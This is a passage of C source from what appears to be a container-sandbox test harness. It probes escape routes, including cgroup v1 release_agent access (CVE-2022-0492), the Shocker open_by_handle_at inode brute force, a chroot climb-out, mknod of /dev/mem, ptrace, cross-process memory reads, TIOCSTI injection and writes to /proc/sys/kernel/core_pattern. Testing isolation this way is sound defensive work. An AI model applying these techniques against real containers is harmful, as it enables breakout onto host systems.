    isolate(CLONE_NEWNS);
    long r = syscall(SYS_move_mount, AT_FDCWD, "/sys/fs/cgroup", AT_FDCWD, "/mnt", 0);
    judge("move_mount(/sys/fs/cgroup -> /mnt)", r, errno);
    finish();
}

/* CVE-2022-0492: mount a cgroup v1 hierarchy (after trying the user+mount+cgroup namespace route) and
 * reach release_agent. Never runs on the host. */
static void a_cgroup_mount_release_agent(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0)
        note_esc("unshare(user+mnt+cgroup) succeeded");
    mkdir("/tmp/adv-cgrp", 0700);
    static const char *opts[] = {"memory", "pids", "rdma", "none,name=rloxsc-adv", NULL};
    for (int i = 0; opts[i]; i++) {
        if (mount("cgroup", "/tmp/adv-cgrp", "cgroup", 0, opts[i]) == 0) {
            int fd = open("/tmp/adv-cgrp/release_agent", O_WRONLY | O_CLOEXEC);
            note_esc("mounted a cgroup v1 hierarchy (%s); release_agent %s", opts[i],
                     fd >= 0 ? "OPEN FOR WRITING" : en(errno));
            if (fd >= 0)
                close(fd);
            umount2("/tmp/adv-cgrp", MNT_DETACH);
        } else {
            note_ok("mount cgroup v1 %s: %s", opts[i], en(errno));
        }
    }
    rmdir("/tmp/adv-cgrp");
    finish();
}

struct agent_scan {
    int found, writable;
};

static void agent_fn(const char *path, const struct stat *st, void *arg)
{
    (void)st;
    struct agent_scan *s = arg;
    const char *base = strrchr(path, '/');
    base = base ? base + 1 : path;
    if (strcmp(base, "release_agent") && strcmp(base, "notify_on_release"))
        return;
    s->found++;
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd >= 0) {
        s->writable++;
        note_esc("%s opened for writing", path);
        close(fd);
    }
}

static void a_cgroup_release_agent_visible(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    struct agent_scan s = {0, 0};
    struct walk w = {0, 20000, 4, agent_fn, &s};
    walk_tree(&w, "/sys/fs/cgroup", 0);
    note_ok("%d release_agent/notify_on_release files visible, none writable", s.found);
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* writes */

static void try_open_write(const char *path, int flags)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK | flags, 0755);
    if (fd >= 0) {
        close(fd);
        if (flags & O_CREAT)
            unlink(path);
        note_esc("%s opened for writing", path);
    } else if (errno == ENOENT && !(flags & O_CREAT)) {
        note_ok("%s: absent", path);
    } else {
        note_ok("%s: %s", path, en(errno));
    }
}

static void a_write_rootfs(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    try_open_write("/bin/x", O_CREAT | O_EXCL);
    try_open_write("/rloxsc-adv-probe", O_CREAT | O_EXCL);
    try_open_write("/bin/busybox", 0);
    try_open_write("/bin/adversary", 0);
    if (mkdir("/rloxsc-adv-dir", 0700) == 0) {
        rmdir("/rloxsc-adv-dir");
        note_esc("mkdir /rloxsc-adv-dir succeeded");
    } else
        note_ok("mkdir /: %s", en(errno));
    struct stat st;
    if (stat("/bin", &st) == 0) {
        if (chmod("/bin", st.st_mode & 07777) == 0)
            note_esc("chmod /bin succeeded");
        else
            note_ok("chmod /bin: %s", en(errno));
    }
    finish();
}

static void a_write_proc_sys(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    static const char *files[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                                  "/proc/sys/kernel/modprobe",     "/proc/sys/kernel/sysrq",
                                  "/proc/sys/kernel/panic",        "/proc/sys/vm/drop_caches",
                                  "/proc/sys/fs/suid_dumpable",    "/proc/sys/net/ipv4/ip_forward",
                                  "/proc/sysrq-trigger",           "/proc/irq/default_smp_affinity",
                                  "/proc/sys/kernel/ns_last_pid",  "/proc/sys/fs/binfmt_misc/register",
                                  NULL};
    for (int i = 0; files[i]; i++)
        try_open_write(files[i], 0);
    finish();
}

struct wscan {
    int tried, writable;
    const char *label;
};

static void wscan_fn(const char *path, const struct stat *st, void *arg)
{
    struct wscan *s = arg;
    if (!S_ISREG(st->st_mode) || !(st->st_mode & 0222))
        return;
    s->tried++;
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd >= 0) {
        close(fd);
        if (s->writable++ < 6)
            note_esc("%s opened for writing", path);
    }
}

static void a_write_sysfs(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    struct wscan s = {0, 0, "sysfs"};
    try_open_write("/sys/kernel/uevent_helper", 0);
    try_open_write("/sys/power/state", 0);
    static const char *dirs[] = {"/sys/kernel", "/sys/power", "/sys/module", "/sys/devices/system/cpu",
                                 "/sys/class/net", "/sys/block", "/sys/fs", NULL};
    for (int i = 0; dirs[i]; i++) {
        struct walk w = {0, 20000, 5, wscan_fn, &s};
        if (!strcmp(dirs[i], "/sys/fs")) {
            /* cgroupfs is its own attempt */
            DIR *d = opendir("/sys/fs");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                if (e->d_name[0] == '.' || !strcmp(e->d_name, "cgroup"))
                    continue;
                char p[512];
                snprintf(p, sizeof p, "/sys/fs/%s", e->d_name);
                walk_tree(&w, p, 1);
            }
            if (d)
                closedir(d);
        } else {
            walk_tree(&w, dirs[i], 0);
        }
    }
    if (s.writable > 6)
        note_esc("... %d writable sysfs files in all", s.writable);
    note_ok("%d sysfs files with write permission bits tried: none opened for writing", s.tried);
    finish();
}

static void a_write_cgroup(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    struct wscan s = {0, 0, "cgroup"};
    struct walk w = {0, 20000, 5, wscan_fn, &s};
    walk_tree(&w, "/sys/fs/cgroup", 0);
    if (s.writable > 6)
        note_esc("... %d writable cgroup files in all", s.writable);
    char v[64];
    if (read_file("/sys/fs/cgroup/pids/pids.max", v, sizeof v) > 0) {
        v[strcspn(v, "\n")] = 0;
        note_ok("pids.max %s", v);
    }
    if (read_file("/sys/fs/cgroup/memory/memory.limit_in_bytes", v, sizeof v) > 0) {
        v[strcspn(v, "\n")] = 0;
        note_ok("memory.limit_in_bytes %s", v);
    }
    if (s.tried == 0)
        note_ok("no cgroup file with write bits visible");
    else
        note_ok("%d cgroup files (limits, cgroup.procs, tasks, devices.allow...) tried: none opened for writing",
                s.tried);
    finish();
}

static void a_proc_self_exe_write(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not meaningful on the host (the running binary is busy)");
    try_open_write("/proc/self/exe", 0);
    try_open_write("/proc/1/exe", 0);
    int fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
    if (fd >= 0) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        try_open_write(p, 0);
        close(fd);
    }
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* dangerous syscalls */

static void a_bpf(const char *arg)
{
    (void)arg;
    union {
        struct {
            uint32_t map_type, key_size, value_size, max_entries, map_flags;
        } m;
        char pad[128];
    } attr;
    memset(&attr, 0, sizeof attr);
    attr.m.map_type = 2; /* BPF_MAP_TYPE_ARRAY */
    attr.m.key_size = 4;
    attr.m.value_size = 4;
    attr.m.max_entries = 1;
    long r = syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, &attr, sizeof attr);
    judge("bpf(BPF_MAP_CREATE)", r, errno);
    finish();
}

static void a_io_uring(const char *arg)
{
    (void)arg;
    char params[120];
    memset(params, 0, sizeof params);
    long r = syscall(SYS_io_uring_setup, 1, params);
    judge("io_uring_setup", r, errno);
    finish();
}

static void a_perf_event_open(const char *arg)
{
    (void)arg;
    struct {
        uint32_t type, size;
        uint64_t config, sample_period, sample_type, read_format, flags;
        char rest[96];
    } pa;
    memset(&pa, 0, sizeof pa);
    pa.type = 1; /* PERF_TYPE_SOFTWARE */
    pa.size = 112;
    pa.config = 0; /* PERF_COUNT_SW_CPU_CLOCK */
    pa.flags = (1ull << 0) /* disabled */ | (1ull << 5) /* exclude_kernel */ | (1ull << 6) /* exclude_hv */;
    long r = syscall(SYS_perf_event_open, &pa, 0, -1, -1, 0);
    judge("perf_event_open(own process, user space only)", r, errno);
    finish();
}

static void a_userfaultfd(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY_);
    judge("userfaultfd(UFFD_USER_MODE_ONLY)", r, errno);
    finish();
}

static void a_keyring(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0, 0, 0);
    judge("keyctl(KEYCTL_GET_KEYRING_ID, session)", r, errno);
    r = syscall(SYS_add_key, "user", "rloxsc-adv", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */);
    judge("add_key(user, process keyring)", r, errno);
    r = syscall(SYS_request_key, "user", "rloxsc-adv-nonexistent", NULL, -2);
    judge("request_key(user)", r, errno);
    finish();
}

static int parse_handle(unsigned char *buf, size_t size, int *type, unsigned *nbytes)
{
    const char *colon = handle_spec ? strchr(handle_spec, ':') : NULL;
    if (!colon)
        return -1;
    *type = atoi(handle_spec);
    const char *h = colon + 1;
    size_t n = strlen(h) / 2;
    if (n > size)
        return -1;
    for (size_t i = 0; i < n; i++) {
        unsigned v;
        if (sscanf(h + 2 * i, "%2x", &v) != 1)
            return -1;
        buf[i] = (unsigned char)v;
    }
    *nbytes = (unsigned)n;
    return 0;
}

/* Shocker: open a host file by its handle, and the filesystem's root by a guessed ext4 handle. */
static void a_open_by_handle_at(const char *arg)
{
    (void)arg;
    struct {
        unsigned int handle_bytes;
        int handle_type;
        unsigned char f_handle[128];
    } fh;
    memset(&fh, 0, sizeof fh);
    fh.handle_bytes = 128;
    int mount_id = 0;
    long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &fh, &mount_id, 0);
    judge("name_to_handle_at(/)", r, errno);

    int mfd = open(handle_mount, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0)
        ERROR("cannot open the mount fd path %s: %s", handle_mount, en(errno));
    if (handle_spec) {
        memset(&fh, 0, sizeof fh);
        int type;
        unsigned nb;
        if (parse_handle(fh.f_handle, sizeof fh.f_handle, &type, &nb) != 0)
            ERROR("bad --handle %s", handle_spec);
        fh.handle_type = type;
        fh.handle_bytes = nb;
        long fd = syscall(SYS_open_by_handle_at, mfd, &fh, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            char content[128] = "";
            ssize_t n = read((int)fd, content, sizeof content - 1);
            content[n > 0 ? n : 0] = 0;
            content[strcspn(content, "\n")] = 0;
            note_esc("open_by_handle_at opened the host's file: it reads \"%s\"", content);
        } else {
            judge("open_by_handle_at(host file handle)", fd, errno);
        }
    } else {
        note_err("no --handle given");
    }
    /* the classic brute force: ext4 root directory, FILEID_INO32_GEN inode 2 generation 0 */
    memset(&fh, 0, sizeof fh);
    fh.handle_type = 1;
    fh.handle_bytes = 8;
    uint32_t ino2[2] = {2, 0};
    memcpy(fh.f_handle, ino2, 8);
    long fd = syscall(SYS_open_by_handle_at, mfd, &fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd >= 0)
        note_esc("open_by_handle_at opened inode 2 (the filesystem root) of the host filesystem");
    else
        judge("open_by_handle_at(inode 2)", fd, errno);
    finish();
}

static void a_kexec(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_kexec_load, 0, 0, NULL, 0xdead0000UL /* invalid arch: EINVAL past the check */);
    judge("kexec_load", r, errno);
    r = syscall(SYS_kexec_file_load, -1, -1, 0, NULL, 0xdead0000UL);
    judge("kexec_file_load", r, errno);
    finish();
}

static void a_modules(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_init_module, NULL, 0, "");
    judge("init_module(empty image)", r, errno);
    r = syscall(SYS_finit_module, -1, "", 0);
    judge("finit_module(-1)", r, errno);
    r = syscall(SYS_delete_module, "rloxsc_adv_none", O_NONBLOCK);
    judge("delete_module(nonexistent)", r, errno);
    finish();
}

static void a_swap(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_swapon, "/rloxsc-adv-nonexistent", 0);
    judge("swapon(nonexistent)", r, errno);
    r = syscall(SYS_swapoff, "/rloxsc-adv-nonexistent");
    judge("swapoff(nonexistent)", r, errno);
    finish();
}

static void a_reboot(const char *arg)
{
    (void)arg;
    /* valid magic, invalid command: EINVAL once CAP_SYS_BOOT is granted, never a reboot */
    long r = syscall(SYS_reboot, 0xfee1dead, 672274793, 0x12345678, NULL);
    judge("reboot(invalid command)", r, errno);
    finish();
}

static void a_clock(const char *arg)
{
    (void)arg;
    struct timespec bad = {0, 2000000000L}; /* invalid: EINVAL if it reaches the kernel */
    long r = syscall(SYS_clock_settime, CLOCK_REALTIME, &bad);
    judge("clock_settime(invalid time)", r, errno);
    struct timezone tz = {100000, 0}; /* invalid minuteswest: EINVAL after CAP_SYS_TIME */
    r = syscall(SYS_settimeofday, NULL, &tz);
    judge("settimeofday(invalid timezone)", r, errno);
    struct timex tx;
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_TICK;
    tx.tick = 1; /* invalid: EINVAL after CAP_SYS_TIME */
    r = syscall(SYS_adjtimex, &tx);
    judge("adjtimex(ADJ_TICK invalid)", r, errno);
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_TICK;
    tx.tick = 1;
    r = syscall(SYS_clock_adjtime, CLOCK_REALTIME, &tx);
    judge("clock_adjtime(ADJ_TICK invalid)", r, errno);
    finish();
}

static void a_acct(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_acct, "/rloxsc-adv-nonexistent");
    judge("acct(nonexistent)", r, errno);
    finish();
}

static void a_quotactl(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_quotactl, (0x800002 << 8) | 0 /* QCMD(Q_QUOTAON, USRQUOTA) */, "/dev/rloxsc-adv-none", 2,
                     "/rloxsc-adv-none");
    judge("quotactl(Q_QUOTAON)", r, errno);
    r = syscall(SYS_quotactl_fd, -1, 0x800002 << 8, 0, NULL);
    judge("quotactl_fd", r, errno);
    finish();
}

static void a_pivot_root(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_pivot_root, "/rloxsc-adv-none", "/rloxsc-adv-none");
    judge("pivot_root(nonexistent)", r, errno);
    finish();
}

static void a_chroot_escape(const char *arg)
{
    (void)arg;
    struct stat root0, root1;
    if (stat("/", &root0) != 0)
        ERROR("stat /: %s", en(errno));
    /* chroot into /tmp without chdir: the cwd stays outside the new root */
    if (chdir("/") != 0 || chroot("/tmp") != 0) {
        int e = errno;
        if (is_denial(e))
            CONTAINED("chroot(/tmp): %s", en(e));
        ESCAPED("chroot reached the kernel past the permission check: %s", en(e));
    }
    /* the classic escape: climb from the cwd left outside and chroot there */
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            break;
    int r2 = chroot(".");
    stat("/", &root1);
    int above = r2 == 0 && (root1.st_dev != root0.st_dev || root1.st_ino != root0.st_ino);
    if (above)
        ESCAPED("chroot + chdir(..) climbed above the original root (dev %u:%u ino %lu)", major(root1.st_dev),
                minor(root1.st_dev), (unsigned long)root1.st_ino);
    ESCAPED("chroot allowed (CAP_SYS_CHROOT and the syscall), although chdir(..) stayed under the original root");
}

static void a_mknod(const char *arg)
{
    (void)arg;
    char dir[128];
    if (self_test) {
        snprintf(dir, sizeof dir, "/tmp/adv-mknod-%d", getpid());
        mkdir(dir, 0700);
    } else {
        snprintf(dir, sizeof dir, "/dev");
    }
    static const struct {
        const char *name;
        mode_t type;
        unsigned maj, min;
    } nodes[] = {{"adv-mem", S_IFCHR, 1, 1}, {"adv-kmsg", S_IFCHR, 1, 11}, {"adv-vda", S_IFBLK, 254, 0},
                 {"adv-sda", S_IFBLK, 8, 0}, {"adv-tun", S_IFCHR, 10, 200}};
    for (unsigned i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        for (int where = 0; where < 2; where++) {
            char p[256];
            snprintf(p, sizeof p, "%s/%s", where == 0 ? dir : "/tmp", nodes[i].name);
            if (self_test && where == 1)
                continue;
            if (mknod(p, nodes[i].type | 0600, makedev(nodes[i].maj, nodes[i].min)) == 0) {
                const char *opened = "not opened";
                if (!self_test) {
                    int fd = open(p, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
                    opened = fd >= 0 ? "AND OPENED" : en(errno);
                    if (fd >= 0)
                        close(fd);
                }
                note_esc("mknod %s (%u:%u) succeeded; open: %s", p, nodes[i].maj, nodes[i].min, opened);
                unlink(p);
            } else {
                judge(p, -1, errno);
            }
        }
    }
    if (self_test)
        rmdir(dir);
    finish();
}

static void a_ptrace(const char *arg)
{
    (void)arg;
    pid_t p = fork();
    if (p == 0)
        _exit(syscall(SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0) == 0 ? 0 : 100 + errno);
    int st = 0;
    waitpid(p, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
        note_esc("PTRACE_TRACEME succeeded");
    else if (WIFEXITED(st))
        judge("PTRACE_TRACEME", -1, WEXITSTATUS(st) - 100);
    pid_t sleeper = fork();
    if (sleeper == 0) {
        for (;;)
            pause();
    }
    long r = syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, sleeper, 0, 0);
    if (r == 0) {
        note_esc("PTRACE_ATTACH to a sibling succeeded");
        waitpid(sleeper, &st, __WALL);
        syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, sleeper, 0, 0);
    } else {
        judge("PTRACE_ATTACH", r, errno);
    }
    r = syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, sleeper, 0, 0);
    judge("PTRACE_SEIZE", r, errno);
    kill(sleeper, SIGKILL);
    waitpid(sleeper, NULL, 0);
    finish();
}

static volatile long secret_word = 0x5ec7e7;

static void a_process_vm(const char *arg)
{
    (void)arg;
    pid_t child = fork();
    if (child == 0) {
        secret_word = 0x1234abcd;
        for (;;)
            pause();
    }
    usleep(100000);
    long got = 0;
    struct iovec local = {&got, sizeof got}, remote = {(void *)&secret_word, sizeof secret_word};
    long r = syscall(SYS_process_vm_readv, child, &local, 1, &remote, 1, 0);
    if (r > 0)
        note_esc("process_vm_readv read another process's memory (0x%lx)", got);
    else
        judge("process_vm_readv", r, errno);
    r = syscall(SYS_process_vm_writev, child, &local, 1, &remote, 1, 0);
    judge("process_vm_writev", r, errno);
    long pidfd = syscall(SYS_pidfd_open, child, 0);
    if (pidfd >= 0) {
        r = syscall(SYS_pidfd_getfd, pidfd, 1, 0);
        judge("pidfd_getfd (steal another process's fd)", r, errno);
    } else {
        judge("pidfd_open", pidfd, errno);
    }
    r = syscall(SYS_kcmp, getpid(), child, 0 /* KCMP_FILE */, 0, 0);
    judge("kcmp", r, errno);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    finish();
}

static void a_personality(const char *arg)
{
    (void)arg;
    static const struct {
        unsigned long v;
        const char *name;
    } p[] = {{0x0400000, "READ_IMPLIES_EXEC"},
             {0x0040000, "ADDR_NO_RANDOMIZE"},
             {0x0100000, "MMAP_PAGE_ZERO"},
             {0x0200000, "ADDR_COMPAT_LAYOUT"},
             {0x8000000, "ADDR_LIMIT_3GB"}};
    for (unsigned i = 0; i < sizeof p / sizeof *p; i++) {
        pid_t c = fork();
        if (c == 0) {
            long r = syscall(SYS_personality, p[i].v);
            if (r < 0)
                _exit(100 + errno);
            long now = syscall(SYS_personality, 0xffffffffUL);
            _exit(now == (long)p[i].v ? 0 : 99);
        }
        int st = 0;
        waitpid(c, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
            note_esc("personality(%s) took effect", p[i].name);
        else if (WIFEXITED(st) && WEXITSTATUS(st) >= 100)
            judge(p[i].name, -1, WEXITSTATUS(st) - 100);
        else if (WIFEXITED(st))
            note_ok("%s: accepted but not in effect", p[i].name);
        else
            note_ok("%s: killed by signal %d", p[i].name, WTERMSIG(st));
    }
    finish();
}

static void a_i386_int80(const char *arg)
{
    (void)arg;
    pid_t c = fork();
    if (c == 0) {
        long ret;
        /* getpid through the 32-bit int 0x80 entry */
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20) : "memory");
        _exit(ret > 0 ? 0 : 1);
    }
    int st = 0;
    waitpid(c, &st, 0);
    if (WIFSIGNALED(st) && (WTERMSIG(st) == SIGSYS || WTERMSIG(st) == SIGKILL))
        CONTAINED("int 0x80 getpid: the process was killed by %s", strsignal(WTERMSIG(st)));
    if (WIFSIGNALED(st))
        CONTAINED("int 0x80 getpid: killed by signal %d (the kernel refuses the i386 ABI)", WTERMSIG(st));
    ESCAPED("int 0x80 getpid returned to the process (exit %d): the i386 ABI is not filtered", WEXITSTATUS(st));
}

static void a_x32(const char *arg)
{
    (void)arg;
    pid_t c = fork();
    if (c == 0) {
        long r = syscall(0x40000000 | 39 /* x32 getpid */);
        _exit(r > 0 ? 0 : 100 + (errno > 150 ? 150 : errno));
    }
    int st = 0;
    waitpid(c, &st, 0);
    if (WIFSIGNALED(st))
        CONTAINED("x32 getpid: killed by %s", strsignal(WTERMSIG(st)));
    if (WEXITSTATUS(st) == 0)
        ESCAPED("x32 getpid returned a pid: the x32 ABI is not filtered");
    if (WEXITSTATUS(st) - 100 == ENOSYS)
        CONTAINED("x32 getpid: ENOSYS (the kernel has no x32 ABI)");
    CONTAINED("x32 getpid: %s", en(WEXITSTATUS(st) - 100));
}

static void a_sethostname(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWUTS);
    long r = sethostname("rloxsc-adv-pwned", 16);
    judge("sethostname", r, errno);
    r = setdomainname("rloxsc-adv-pwned", 16);
    judge("setdomainname", r, errno);
    finish();
}

static void a_syslog(const char *arg)
{
    (void)arg;
    char buf[256];
    long r = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
    if (r > 0)
        note_esc("klogctl(READ_ALL) read %ld bytes of the kernel log", r);
    else
        judge("klogctl(READ_ALL)", r, errno);
    finish();
}

static void a_ioport(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_iopl, 3);
    if (r == 0)
        syscall(SYS_iopl, 0);
    judge("iopl(3)", r, errno);
    r = syscall(SYS_ioperm, 0x80, 1, 1);
    if (r == 0)
        syscall(SYS_ioperm, 0x80, 1, 0);
    judge("ioperm(0x80)", r, errno);
    finish();
}

static void a_scheduling(const char *arg)
{
    (void)arg;
    struct sched_param sp = {.sched_priority = 1};
    long r = sched_setscheduler(0, SCHED_FIFO, &sp);
    int e = errno;
    if (r == 0) {
        sp.sched_priority = 0;
        sched_setscheduler(0, SCHED_OTHER, &sp);
        note_esc("sched_setscheduler(SCHED_FIFO) succeeded: real-time priority can starve the host");
    } else if (is_denial(e)) {
        note_ok("SCHED_FIFO: %s", en(e));
    } else {
        note_err("SCHED_FIFO: %s", en(e));
    }
    r = setpriority(PRIO_PROCESS, 0, -10);
    if (r == 0)
        note_esc("setpriority(-10) succeeded");
    else
        note_ok("setpriority(-10): %s", en(errno));
    finish();
}

static void a_rlimit_raise(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not meaningful on this host (it lacks CAP_SYS_RESOURCE)");
    static const struct {
        int res;
        const char *name;
    } r[] = {{RLIMIT_NOFILE, "NOFILE"}, {RLIMIT_NPROC, "NPROC"}, {RLIMIT_MEMLOCK, "MEMLOCK"},
             {RLIMIT_RTPRIO, "RTPRIO"}, {RLIMIT_NICE, "NICE"},   {RLIMIT_CORE, "CORE"}};
    for (unsigned i = 0; i < sizeof r / sizeof *r; i++) {
        struct rlimit cur;
        getrlimit(r[i].res, &cur);
        if (cur.rlim_max == RLIM_INFINITY) {
            if (r[i].res == RLIMIT_NOFILE || r[i].res == RLIMIT_CORE || r[i].res == RLIMIT_RTPRIO)
                note_esc("RLIMIT_%s hard limit is unlimited", r[i].name);
            else
                note_ok("RLIMIT_%s unlimited", r[i].name);
            continue;
        }
        struct rlimit up = {cur.rlim_max + 1000000, cur.rlim_max + 1000000};
        if (setrlimit(r[i].res, &up) == 0)
            note_esc("RLIMIT_%s raised above its hard limit %lu (CAP_SYS_RESOURCE)", r[i].name,
                     (unsigned long)cur.rlim_max);
        else
            note_ok("RLIMIT_%s %lu: raise %s", r[i].name, (unsigned long)cur.rlim_max, en(errno));
    }
    struct rlimit rt;
    getrlimit(RLIMIT_RTPRIO, &rt);
    if (rt.rlim_cur > 0)
        note_esc("RLIMIT_RTPRIO is %lu: real-time scheduling without CAP_SYS_NICE", (unsigned long)rt.rlim_cur);
    struct rlimit core;
    getrlimit(RLIMIT_CORE, &core);
    if (core.rlim_cur != 0)
        note_esc("RLIMIT_CORE is %lu, not 0", (unsigned long)core.rlim_cur);
    finish();
}

static void tty_try(int fd, int own, const char *stage)
{
    char c = '#';
    if (own) {
        /* pushing input into the container's own console is harmless, and would garble the output */
        note_ok("fd %d is the container's own console (its devpts): not an outside terminal", fd);
        return;
    }
    if (ioctl(fd, TIOCSTI, &c) == 0) {
        if (own)
            note_ok("fd %d: TIOCSTI %s works on the container's own console", fd, stage);
        else
            note_esc("TIOCSTI %s injected input into fd %d, a terminal from outside the container", stage, fd);
    } else {
        note_ok("fd %d (%s terminal): TIOCSTI %s: %s", fd, own ? "the container's own" : "an outside", stage,
                en(errno));
    }
}

static void a_tty_inject(const char *arg)
{
    (void)arg;
    /* in a grandchild that can become a session leader (TIOCSCTTY needs one) */
    pid_t c = fork();
    if (c > 0) {
        waitpid(c, NULL, 0);
        _exit(0);
    }
    int ttys = 0;
    struct stat own_pts;
    int have_own = stat("/dev/pts/ptmx", &own_pts) == 0;
    int fds[3], nfds = 0;
    for (int fd = 0; fd < 3; fd++) {
        if (!isatty(fd))
            continue;
        ttys++;
        struct stat st;
        fstat(fd, &st);
        struct statfs sf;
        int is_devpts = fstatfs(fd, &sf) == 0 && sf.f_type == DEVPTS_SUPER_MAGIC_;
        int own = !self_test && have_own && is_devpts && st.st_dev == own_pts.st_dev;
        tty_try(fd, own, "without a controlling terminal");
        fds[nfds++] = fd | (own << 8);
    }
    if (nfds) {
        if (setsid() < 0)
            note_err("setsid: %s", en(errno));
        for (int i = 0; i < nfds; i++) {
            int fd = fds[i] & 0xff, own = fds[i] >> 8;
            if (ioctl(fd, TIOCSCTTY, 0) == 0) {
                if (!own)
                    note_ok("fd %d: TIOCSCTTY took the outside terminal as controlling terminal", fd);
                tty_try(fd, own, "as controlling terminal");
                break;
            }
            note_ok("fd %d: TIOCSCTTY %s", fd, en(errno));
        }
    }
    if (!ttys)
        note_ok("no terminal on stdin/stdout/stderr");
    finish();
}

static void a_other_forbidden(const char *arg)
{
    (void)arg;
    struct {
        unsigned int handle_bytes;
        int handle_type;
        unsigned char f_handle[8];
    } fh = {0, 0, {0}};
    int mid;
    long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &fh, &mid, 0);
    judge("name_to_handle_at", r, errno);
    r = syscall(SYS_fanotify_init, 0 /* FAN_CLASS_NOTIF */, O_RDONLY);
    judge("fanotify_init", r, errno);
    r = syscall(SYS_memfd_secret, 0);
    judge("memfd_secret", r, errno);
    r = syscall(SYS_set_mempolicy, 0, NULL, 0);
    judge("set_mempolicy", r, errno);
    r = syscall(SYS_mbind, NULL, 0, 0, NULL, 0, 0);
    judge("mbind", r, errno);
    r = syscall(SYS_migrate_pages, 0, 0, NULL, NULL);
    judge("migrate_pages", r, errno);
    r = syscall(SYS_move_pages, 0, 0, NULL, NULL, NULL, 0);
    judge("move_pages", r, errno);
    long pidfd = syscall(SYS_pidfd_open, getpid(), 0);
    struct iovec iov = {NULL, 0};
    r = syscall(SYS_process_madvise, pidfd, &iov, 1, 20 /* MADV_COLD */, 0);
    judge("process_madvise", r, errno);
    r = syscall(SYS_uselib, "/rloxsc-adv-nonexistent");
    judge("uselib", r, errno);
    r = syscall(SYS_lookup_dcookie, 0, NULL, 0);
    judge("lookup_dcookie", r, errno);
    r = syscall(SYS_nfsservctl, 0, NULL, NULL);
    judge("nfsservctl", r, errno);
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* process status */

static const char *CAP_NAMES[] = {
    "CHOWN",          "DAC_OVERRIDE", "DAC_READ_SEARCH", "FOWNER",          "FSETID",        "KILL",
    "SETGID",         "SETUID",       "SETPCAP",         "LINUX_IMMUTABLE", "NET_BIND_SERVICE",
    "NET_BROADCAST",  "NET_ADMIN",    "NET_RAW",         "IPC_LOCK",        "IPC_OWNER",     "SYS_MODULE",
    "SYS_RAWIO",      "SYS_CHROOT",   "SYS_PTRACE",      "SYS_PACCT",       "SYS_ADMIN",     "SYS_BOOT",
    "SYS_NICE",       "SYS_RESOURCE", "SYS_TIME",        "SYS_TTY_CONFIG",  "MKNOD",         "LEASE",
    "AUDIT_WRITE",    "AUDIT_CONTROL", "SETFCAP",        "MAC_OVERRIDE",    "MAC_ADMIN",     "SYSLOG",
    "WAKE_ALARM",     "BLOCK_SUSPEND", "AUDIT_READ",     "PERFMON",         "BPF",           "CHECKPOINT_RESTORE"};

/* rloxsc's default allowlist: CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETGID SETUID SETPCAP
 * NET_BIND_SERVICE AUDIT_WRITE SETFCAP */
#define ALLOWED_CAPS                                                                                             \
    ((1ull << 0) | (1ull << 1) | (1ull << 3) | (1ull << 4) | (1ull << 5) | (1ull << 6) | (1ull << 7) |           \
     (1ull << 8) | (1ull << 10) | (1ull << 29) | (1ull << 31))

static void a_capabilities(const char *arg)
{
    (void)arg;
    char status[8192];
    if (read_file("/proc/self/status", status, sizeof status) <= 0)
        ERROR("cannot read /proc/self/status: %s", en(errno));
    static const char *sets[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", NULL};
    for (int i = 0; sets[i]; i++) {
